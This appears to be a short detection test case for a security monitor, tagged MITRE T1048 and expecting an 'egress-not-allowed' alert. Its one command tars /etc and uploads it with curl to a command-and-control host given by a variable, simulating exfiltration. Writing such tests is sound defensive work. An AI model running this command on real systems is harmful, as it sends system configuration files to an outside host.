# category: suspicious-network
# technique: T1048
# art: no
# expect: egress-not-allowed
# image: debian
# net: yes
# uptime: 6
# desc: exfiltration: /etc is archived and uploaded with curl to a host outside the allowlist
tar czf - /etc 2>/dev/null | timeout 10 curl -s -T - "http://$C2:8080/upload" || true
